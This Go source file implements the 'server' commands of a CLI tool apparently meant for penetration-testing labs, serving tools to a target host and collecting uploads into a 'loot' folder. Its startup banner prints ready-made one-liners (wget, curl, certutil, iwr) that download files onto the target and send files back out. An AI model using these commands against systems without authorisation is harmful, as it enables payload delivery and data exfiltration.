package cli

import (
	"context"
	"fmt"
	"os"
	"strconv"
	"syscall"
	"time"

	"github.com/kballard/go-shellquote"
	"github.com/ksyq12/labcmdr/internal/errors"
	"github.com/ksyq12/labcmdr/internal/executor"
	"github.com/ksyq12/labcmdr/internal/fsutil"
	"github.com/ksyq12/labcmdr/internal/lab"
	"github.com/ksyq12/labcmdr/internal/logger"
	"github.com/ksyq12/labcmdr/internal/output"
	"github.com/ksyq12/labcmdr/internal/server"
	"github.com/spf13/cobra"
)

var (
	serverPort int
	logFollow  bool
	logLines   int
)

var serverCmd = &cobra.Command{
	Use:   "server",
	Short: "Control the lab file server",
	Long: `Serve the lab's server/serve tree to the target over HTTP and receive
uploads into server/loot.

The server binds the address of network.interface (with the fallbacks when
network.auto_detect is set). If the port is taken and
server.auto_increment_port is on, the next free port within 100 is used.`,
}

var serverStartCmd = &cobra.Command{
	Use:   "start",
	Short: "Run the file server in the foreground",
	Long: `Run the file server until Ctrl-C or SIGTERM. The lab's runtime record
is filled while it runs and cleared on exit.

Examples:
  labcmdr server start
  labcmdr server start --port 9000`,
	Args: cobra.NoArgs,
	RunE: runServerStart,
}

var serverStopCmd = &cobra.Command{
	Use:   "stop",
	Short: "Stop the lab's file server",
	Long: `Stop the file server recorded in the lab config. A server owned by
another labcmdr process is sent SIGTERM; a record whose process is gone is
cleared.`,
	Args: cobra.NoArgs,
	RunE: runServerStop,
}

var serverRestartCmd = &cobra.Command{
	Use:   "restart",
	Short: "Stop the running server and serve again in the foreground",
	Long: `Stop the lab's file server if one is running, then start it again on
the same port or the one given with --port.

Examples:
  labcmdr server restart
  labcmdr server restart --port 8000`,
	Args: cobra.NoArgs,
	RunE: runServerRestart,
}

var serverStatusCmd = &cobra.Command{
	Use:   "status",
	Short: "Show the file server state",
	Args:  cobra.NoArgs,
	RunE:  runServerStatus,
}

var serverLogCmd = &cobra.Command{
	Use:   "log",
	Short: "Show the file server access log",
	Long: `Show the lab's labcmdr/httpserver.log.

Examples:
  labcmdr server log
  labcmdr server log -n 50
  labcmdr server log -f`,
	Args: cobra.NoArgs,
	RunE: runServerLog,
}

func init() {
	serverStartCmd.Flags().IntVarP(&serverPort, "port", "p", 0, "Port to bind (default server.default_port)")
	serverRestartCmd.Flags().IntVarP(&serverPort, "port", "p", 0, "Port to bind (default: the previous port)")
	serverLogCmd.Flags().BoolVarP(&logFollow, "follow", "f", false, "Follow log output (like tail -f)")
	serverLogCmd.Flags().IntVarP(&logLines, "lines", "n", 20, "Number of lines to show")

	serverCmd.AddCommand(serverStartCmd, serverStopCmd, serverRestartCmd, serverStatusCmd, serverLogCmd)
	rootCmd.AddCommand(serverCmd)
}

// serverInfo is the JSON form of a started server
type serverInfo struct {
	URL       string `json:"url"`
	IP        string `json:"ip"`
	Interface string `json:"interface"`
	Port      int    `json:"port"`
	PID       int    `json:"pid"`
	ServeDir  string `json:"serve_dir"`
	LootDir   string `json:"loot_dir"`
	Log       string `json:"log"`
	StartedAt string `json:"started_at"`
}

func runServerStart(cmd *cobra.Command, args []string) error {
	root, err := currentRoot()
	if err != nil {
		return err
	}
	h, err := startServer(cmd.Context(), root, serverPort)
	if err != nil {
		return err
	}
	return serveForeground(h)
}

func runServerStop(cmd *cobra.Command, args []string) error {
	root, err := currentRoot()
	if err != nil {
		return err
	}
	return stopServer(cmd.Context(), root)
}

func runServerRestart(cmd *cobra.Command, args []string) error {
	root, err := currentRoot()
	if err != nil {
		return err
	}
	h, err := restartServer(cmd.Context(), root, serverPort)
	if err != nil {
		return err
	}
	return serveForeground(h)
}

func runServerStatus(cmd *cobra.Command, args []string) error {
	_, cfg, err := currentLab()
	if err != nil {
		return err
	}
	st := server.StatusOf(cfg.Runtime, deps.Process.Alive, time.Now())
	if jsonOutput {
		return output.JSON(st)
	}
	printServerStatus(st)
	return nil
}

func runServerLog(cmd *cobra.Command, args []string) error {
	root, cfg, err := currentLab()
	if err != nil {
		return err
	}
	path := lab.Str(cfg.Runtime.ServerLog)
	if path == "" {
		path = lab.LogPath(root)
	}
	return tailLog(path, logLines, logFollow)
}

// serveForeground blocks until the server exits. SIGINT and SIGTERM stop the
// server through the lifecycle and end the process with status 0.
func serveForeground(h *server.Handle) error {
	uninstall := deps.Lifecycle.InstallSignalHandlers(os.Interrupt, syscall.SIGTERM)
	defer uninstall()

	if !jsonOutput {
		output.Info("Press Ctrl-C to stop")
	}
	<-h.Done()
	return h.Err()
}

// startServer starts the lab's file server in this process. A live server
// recorded by another process is refused; one already running here is
// reported and returned.
func startServer(ctx context.Context, root string, port int) (*server.Handle, error) {
	cfg, err := lab.Load(root)
	if err != nil {
		return nil, err
	}
	st := server.StatusOf(cfg.Runtime, deps.Process.Alive, time.Now())
	if st.Running && st.PID != os.Getpid() {
		return nil, errors.Validation(fmt.Sprintf("server already running in process %d on port %d (run 'labcmdr server stop' first)", st.PID, st.Port))
	}

	g := loadGlobal()
	opts := server.OptionsFromConfig(g.Config, root, port)
	opts.Console = deps.Stdout

	h, already, err := deps.Lifecycle.Start(ctx, opts)
	if err != nil {
		return nil, err
	}
	if already {
		output.Info("Server already running on port %d", h.Port)
		return h, nil
	}
	printServerStarted(h, opts.EnableUpload)
	return h, nil
}

// restartServer stops whatever serves the lab and starts again here. port 0
// keeps the previous port.
func restartServer(ctx context.Context, root string, port int) (*server.Handle, error) {
	g := loadGlobal()
	opts := server.OptionsFromConfig(g.Config, root, port)
	opts.Console = deps.Stdout

	if deps.Lifecycle.State() == server.Running {
		if port == 0 {
			opts.Port = 0
		}
		h, err := deps.Lifecycle.Restart(ctx, opts)
		if err != nil {
			return nil, err
		}
		printServerStarted(h, opts.EnableUpload)
		return h, nil
	}

	cfg, err := lab.Load(root)
	if err != nil {
		return nil, err
	}
	if port == 0 && cfg.Runtime.ServerPort != nil {
		opts.Port = *cfg.Runtime.ServerPort
	}
	if _, err := server.StopRemote(ctx, root, deps.Process); err != nil && !errors.Is(err, errors.ErrServerNotRunning) {
		return nil, err
	}

	h, _, err := deps.Lifecycle.Start(ctx, opts)
	if err != nil {
		return nil, err
	}
	printServerStarted(h, opts.EnableUpload)
	return h, nil
}

// stopServer stops the server owned by this process, or the one recorded by
// another process
func stopServer(ctx context.Context, root string) error {
	if deps.Lifecycle.State() == server.Running {
		if err := deps.Lifecycle.Stop(ctx); err != nil {
			return err
		}
		output.Success("Server stopped")
		return nil
	}

	stale, err := server.StopRemote(ctx, root, deps.Process)
	if err != nil {
		return err
	}
	if stale {
		output.Warn("Cleared a stale server record")
		return nil
	}
	output.Success("Server stopped")
	return nil
}

func printServerStarted(h *server.Handle, upload bool) {
	if jsonOutput {
		_ = output.JSON(serverInfo{
			URL:       h.URL(),
			IP:        h.IP,
			Interface: h.Interface,
			Port:      h.Port,
			PID:       h.PID,
			ServeDir:  h.ServeDir,
			LootDir:   h.LootDir,
			Log:       h.LogPath,
			StartedAt: h.StartedAt.Format(time.RFC3339),
		})
		return
	}

	url := h.URL()
	output.PrintBanner("File server on " + url)
	output.KeyValue([][2]string{
		{"Interface", h.Interface},
		{"Serving", h.ServeDir},
		{"Loot", h.LootDir},
		{"Log", h.LogPath},
	})
	output.Print("")
	output.Print("Download on the target:")
	output.Print("  wget %s/tools/<file>", url)
	output.Print("  curl -o <file> %s/tools/<file>", url)
	output.Print("  certutil -urlcache -f %s/tools/<file> <file>", url)
	output.Print("  iwr -uri %s/tools/<file> -outfile <file>", url)
	if upload {
		output.Print("")
		output.Print("Upload from the target:")
		output.Print("  curl --data-binary @<file> %s/upload/<name>", url)
		output.Print("  iwr -uri %s/upload/<name> -method post -infile <file>", url)
	}
	output.Print("")
}

// tailLog pages a log file through tail
func tailLog(path string, lines int, follow bool) error {
	if !fsutil.Exists(path) {
		return fmt.Errorf("no server log at %s (start the server first)", path)
	}

	tailPath, err := deps.Executor.LookPath("tail")
	if err != nil {
		return fmt.Errorf("tail command not found")
	}

	tailArgs := []string{"-n", strconv.Itoa(lines)}
	if follow {
		tailArgs = append(tailArgs, "-f")
	}
	tailArgs = append(tailArgs, path)
	logger.Debug("Running %s", shellquote.Join(append([]string{"tail"}, tailArgs...)...))

	output.Info("Showing %s", path)
	if err := deps.Executor.Interactive(tailPath, tailArgs...); err != nil {
		// Ctrl-C while following is a normal way out
		if executor.IsInterrupted(err) {
			return nil
		}
		return fmt.Errorf("failed to read log: %w", err)
	}
	return nil
}
